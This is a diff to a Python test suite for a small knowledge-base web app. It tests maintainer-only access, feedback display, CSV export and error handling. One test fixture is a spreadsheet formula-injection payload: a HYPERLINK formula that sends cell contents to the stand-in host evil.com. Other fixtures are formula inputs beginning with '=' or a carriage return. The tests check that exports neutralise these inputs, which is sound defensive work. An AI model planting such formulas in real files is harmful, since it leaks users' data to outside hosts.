@@ -90,7 +90,9 @@ SECRET = "a maintainer's long secret"
 
 
 def as_maintainer(at: AppTest, monkeypatch: pytest.MonkeyPatch) -> AppTest:
-    """The Documents view, unlocked with the maintainer secret the server was started with."""
+    """The Documents view of the maintainer's page (`make maintain`: KB_MAINTAINER=1, on
+    127.0.0.1 by config.toml), unlocked with the secret the server was started with."""
+    monkeypatch.setenv("KB_MAINTAINER", "1")
     monkeypatch.setenv("KB_MAINTAINER_SECRET", SECRET)
     at.query_params["view"] = "documents"
     run(at)
@@ -369,17 +371,32 @@ def test_progress_lines_show_a_file_name_as_plain_text(
     assert not any("bold" in m.value for m in at.markdown)
 
 
-def test_without_the_maintainer_secret_the_page_cannot_change_the_library(
+def test_the_public_page_cannot_change_the_library_even_with_the_secret(
     real_kb, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
 ):
     monkeypatch.setenv("KB_DIR", str(real_kb.copy_to(tmp_path / "kb")))
     monkeypatch.setenv("DOCS_DIR", str(tmp_path / "docs"))
+    monkeypatch.delenv("KB_MAINTAINER", raising=False)
+    monkeypatch.setenv("KB_MAINTAINER_SECRET", SECRET)
+    at = AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT)
+    at.query_params["view"] = "documents"
+    run(at)
+    assert any("read-only" in i.value and "make maintain" in i.value for i in at.info)
+    assert not at.file_uploader and not [b for b in at.button if b.key == "reingest"]
+    assert not [t for t in at.text_input if t.key == "maintainer_secret"]  # nothing to try
+
+
+def test_the_maintainers_page_needs_its_secret_when_one_is_set(
+    real_kb, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+):
+    monkeypatch.setenv("KB_DIR", str(real_kb.copy_to(tmp_path / "kb")))
+    monkeypatch.setenv("DOCS_DIR", str(tmp_path / "docs"))
+    monkeypatch.setenv("KB_MAINTAINER", "1")
     monkeypatch.delenv("KB_MAINTAINER_SECRET", raising=False)
     at = AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT)
     at.query_params["view"] = "documents"
     run(at)
-    assert any("read-only" in i.value for i in at.info)
-    assert not at.file_uploader and not [b for b in at.button if b.key == "reingest"]
+    assert at.file_uploader  # the maintainer's own process, on 127.0.0.1: no secret set
     monkeypatch.setenv("KB_MAINTAINER_SECRET", SECRET)
     run(at)
     assert not at.file_uploader  # the secret is set, but this visitor does not know it
@@ -392,6 +409,29 @@ def test_without_the_maintainer_secret_the_page_cannot_change_the_library(
     assert at.file_uploader and [b for b in at.button if b.key == "reingest"]
 
 
+VOTED = '=HYPERLINK("http://evil.example/?"&A1,"our staff hate the new till")'
+
+
+def test_the_visitors_questions_are_shown_to_the_maintainer_only_and_inert(
+    real_kb, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+):
+    kb_dir = real_kb.copy_to(tmp_path / "kb")
+    feedback.record(kb_dir, VOTED, "c", "\r=2+2 a title", feedback.DOWN, current_version(kb_dir))
+    monkeypatch.setenv("KB_DIR", str(kb_dir))
+    monkeypatch.setenv("DOCS_DIR", str(tmp_path / "docs"))
+    monkeypatch.delenv("KB_MAINTAINER", raising=False)
+    at = AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT)
+    at.query_params["view"] = "documents"
+    run(at)
+    assert not any("Feedback" in e.label for e in at.expander)
+    assert len(at.dataframe) == 1  # the documents only
+    at = as_maintainer(AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT), monkeypatch)
+    assert any("Feedback from the Ask page: 0 helpful, 1 not" in e.label for e in at.expander)
+    votes = at.dataframe[1].value  # what its "Download as CSV" exports
+    assert list(votes["query"]) == ["'" + VOTED]
+    assert list(votes["title"]) == ["'=2+2 a title"]  # one line: no CR starts a row
+
+
 def test_a_damaged_votes_file_does_not_break_the_documents_view(
     real_kb, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
 ):
@@ -399,9 +439,7 @@ def test_a_damaged_votes_file_does_not_break_the_documents_view(
     (kb_dir / feedback.FILE).write_bytes(b"no database here" * 100)
     monkeypatch.setenv("KB_DIR", str(kb_dir))
     monkeypatch.setenv("DOCS_DIR", str(tmp_path / "docs"))
-    at = AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT)
-    at.query_params["view"] = "documents"
-    run(at)
+    at = as_maintainer(AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT), monkeypatch)
     assert any("cannot be used" in w.value for w in at.warning)
     assert len(at.dataframe[0].value) == 3  # the library is still listed
 
@@ -533,3 +571,40 @@ def test_a_level_filter_keeps_the_documents_that_have_no_levels(
     at.pills(key="docs_level").set_value("Fundamentals")
     run(at)
     assert rows() == {"Pricing for Small Service Firms": "Fundamentals", notes: "no levels"}
+
+
+# --------------------------------------------------------------------------- no traceback, ever
+
+
+def test_comparison_tables_with_different_columns_show_as_one(app: AppTest, monkeypatch):
+    """Two documents' comparison tables with different columns leave gaps (NaN, a float that
+    used to crash the view for every visitor): a gap is an empty cell."""
+    import pandas as pd
+
+    table = pd.DataFrame(
+        [
+            {"Framework": "OKRs", "Core Focus": "Goals", "Level": "", "Document": "d"},
+            {"Framework": "=1+1 Lean", "Key Benefits": "Less waste", "Level": "", "Document": "d"},
+        ]
+    )
+    assert table.isna().any().any()
+    monkeypatch.setattr(catalog, "framework_table", lambda kb: table)
+    app.query_params["view"] = "frameworks"
+    at = run(app)
+    shown = at.table[0].value
+    assert list(shown.index) == ["OKRs", html.md_escape("=1+1 Lean")]
+    assert shown.loc["OKRs", html.md_escape("Key Benefits")] == ""
+    assert at.download_button(key="fw_compare_csv").label == "Download the comparison (CSV)"
+
+
+def test_a_failing_view_shows_a_short_message_and_no_trace(app: AppTest, monkeypatch):
+    def broken(kb):
+        raise AttributeError("'float' object has no attribute 'split' in /srv/secret/catalog.py")
+
+    monkeypatch.setattr(catalog, "framework_table", broken)
+    app.query_params["view"] = "frameworks"
+    at = app.run()
+    assert not at.exception
+    assert any("Something went wrong" in e.value for e in at.error)
+    everything = " ".join(str(e.value) for e in [*at.error, *at.markdown, *at.caption])
+    assert "/srv/secret" not in everything and "float" not in everything
